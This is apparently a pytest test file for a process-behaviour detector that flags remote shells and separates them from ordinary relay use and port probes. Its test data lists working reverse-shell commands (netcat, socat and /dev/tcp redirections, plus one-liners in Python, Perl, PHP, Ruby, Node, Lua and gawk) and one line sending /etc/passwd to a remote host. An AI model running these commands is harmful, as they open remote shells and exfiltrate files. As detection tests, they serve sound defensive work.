"""Shells that are connected to a network, by whatever means."""

import pytest

from pyloader.records import Stdio
from tests.unit.evidence.stage import Stage

HIGH = 62


@pytest.mark.parametrize("argv", [["bash", "-i"], ["sh"], ["python3", "-c", "import pty"], ["perl"]])
def test_shell_on_a_network_socket_is_decisive(stage: Stage, argv: list[str]) -> None:
    """A shell or interpreter whose input and output are a network socket is a remote shell."""
    shell = stage.run(argv, stdin=Stdio.INET_SOCKET, stdout=Stdio.INET_SOCKET)
    assert "shell_on_socket" in stage.codes(shell)
    assert stage.score(shell) >= HIGH


@pytest.mark.parametrize("kind", [Stdio.UNIX_SOCKET, Stdio.PIPE, Stdio.CHARACTER, Stdio.FILE])
def test_other_streams_are_ordinary(stage: Stage, kind: Stdio) -> None:
    """Logins without a terminal, pipelines and files give shells other kinds of streams all day."""
    shell = stage.run(["bash"], stdin=kind, stdout=kind)
    assert not stage.codes(shell)


def test_one_socket_is_not_enough(stage: Stage) -> None:
    """A shell that only writes into a socket takes its commands from elsewhere."""
    shell = stage.run(["bash"], stdin=Stdio.CHARACTER, stdout=Stdio.INET_SOCKET)
    assert not stage.codes(shell)


def test_socket_activation_is_ordinary(stage: Stage) -> None:
    """A script that a super server started for a connection is a small service."""
    server = stage.run(["xinetd"])
    script = stage.run(["sh", "/opt/time.sh"], server, stdin=Stdio.INET_SOCKET, stdout=Stdio.INET_SOCKET)
    assert stage.codes(script) == {"socket_handler"}


@pytest.mark.parametrize(
    "argv",
    [
        ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        ["nc.traditional", "-lvp", "4444", "-e", "/bin/bash"],
        ["nc", "-nlvpe", "/bin/sh", "4444"],
        ["ncat", "--exec", "/bin/bash", "10.0.0.1", "4444"],
        ["ncat", "10.0.0.1", "4444", "--sh-exec", "sh"],
        ["ncat", "-c", "bash -i", "10.0.0.1", "4444"],
        ["busybox", "nc", "10.0.0.1", "4444", "-e", "sh"],
        ["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh,pty,stderr"],
        ["socat", "tcp-listen:4444,reuseaddr,fork", "system:bash"],
        ["socat", "openssl-connect:10.0.0.1:443,verify=0", "exec:'bash -li',pty"],
    ],
)
def test_relay_that_runs_a_program(stage: Stage, argv: list[str]) -> None:
    """A relay with an option to run a program is a remote shell, and so is the program that it starts."""
    relay = stage.run(argv)
    shell = stage.run(["sh"], relay)
    assert stage.score(relay) >= HIGH
    assert "shell_from_relay" in stage.codes(shell)
    assert stage.score(shell) >= HIGH


def test_relay_that_becomes_the_shell(stage: Stage) -> None:
    """A relay may replace its own image by the shell, without a fork."""
    relay = stage.run(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
    shell = stage.execute(relay, ["sh"])
    assert "shell_from_relay" in stage.codes(shell)


@pytest.mark.parametrize(
    "argv",
    [
        ["nc", "-zv", "db.example.com", "5432"],
        ["nc", "example.com", "80"],
        ["nc", "-l", "-p", "9000"],
        ["ncat", "--ssl", "example.com", "443"],
        ["socat", "-", "UNIX-CONNECT:/run/haproxy.sock"],
        ["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"],
        ["telnet", "example.com"],
    ],
)
def test_ordinary_use_of_a_relay(stage: Stage, argv: list[str]) -> None:
    """Relays without a program are tools of administrators."""
    assert stage.score(stage.run(argv)) < 50


@pytest.mark.parametrize(
    "code",
    [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
        "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
        "cat /etc/passwd > /dev/tcp/10.0.0.1/80",
    ],
)
def test_shell_device_is_decisive(stage: Stage, code: str) -> None:
    """A shell that opens a connection as a file has few honest reasons."""
    assert stage.score(stage.run(["bash", "-c", code])) >= HIGH


@pytest.mark.parametrize(
    "code",
    [
        "</dev/tcp/db/5432",
        "echo > /dev/tcp/localhost/8080",
        "cat < /dev/null > /dev/tcp/example.com/443",
        "(echo > /dev/tcp/127.0.0.1/22) 2>/dev/null && echo open || echo closed",
        "exec 3<>/dev/tcp/localhost/6379",
    ],
)
def test_waiting_for_a_port_is_ordinary(stage: Stage, code: str) -> None:
    """Scripts open a connection and send nothing to see whether a service is up."""
    shell = stage.run(["bash", "-c", code])
    assert stage.codes(shell) == {"port_probe"}
    assert stage.score(shell) < 50


@pytest.mark.parametrize(
    "argv",
    [
        [
            "python3",
            "-c",
            "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')",
        ],
        ["perl", "-e", 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton("h")));exec("/bin/sh -i");'],
        ["perl", "-MIO", "-e", "$c=new IO::Socket::INET(PeerAddr,'h:1');while(<>){system $_;} connect(1)"],
        ["php", "-r", '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
        ["ruby", "-rsocket", "-e", 'c=TCPSocket.new("h",1);while(cmd=c.gets);IO.popen(cmd,"r"){|i|c.print i.read}end'],
        [
            "node",
            "-e",
            'require("net").connect(1,"h",function(){this.pipe(require("child_process").spawn("sh").stdin)})',
        ],
        ["lua", "-e", "local s=require('socket');t=s.tcp();t:connect('h',1);os.execute('/bin/sh -i <&3 >&3')"],
        ["gawk", 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while(c&&(c|&getline)>0)print|&s}}'],
    ],
)
def test_one_liner_that_serves_a_socket(stage: Stage, argv: list[str]) -> None:
    """A one-liner that connects and runs commands is a remote shell in any language."""
    assert stage.score(stage.run(argv)) >= HIGH


@pytest.mark.parametrize(
    "argv",
    [
        ["python3", "-c", "import socket; print(socket.gethostname())"],
        ["python3", "-c", "import os, socket, subprocess, sys; print(socket.gethostname(), os.getpid())"],
        ["python3", "-c", "import socket, ssl, subprocess; print('imports work')"],
        ["perl", "-pe", "s/socket/plug/"],
        ["node", "-e", "console.log(process.version)"],
        ["php", "-r", "echo phpversion();"],
        ["awk", "BEGIN { print 1 }"],
    ],
)
def test_ordinary_one_liners(stage: Stage, argv: list[str]) -> None:
    """What a one-liner merely imports or mentions says nothing."""
    assert not stage.codes(stage.run(argv))


@pytest.mark.parametrize(
    ("code", "told"),
    [
        ("import socket; socket.create_connection(('localhost', 80))", "code_talks"),
        ("import socket, sys; s = socket.socket(); sys.exit(s.connect_ex(('db', 5432)))", "code_talks"),
        ("import subprocess; subprocess.run(['ls'])", "code_runs_program"),
    ],
)
def test_one_liner_that_only_connects_or_runs(stage: Stage, code: str, told: str) -> None:
    """One-liners that only connect, or only run something, are far from an alarm."""
    process = stage.run(["python3", "-c", code])
    assert stage.codes(process) == {told}
    assert stage.score(process) < 40
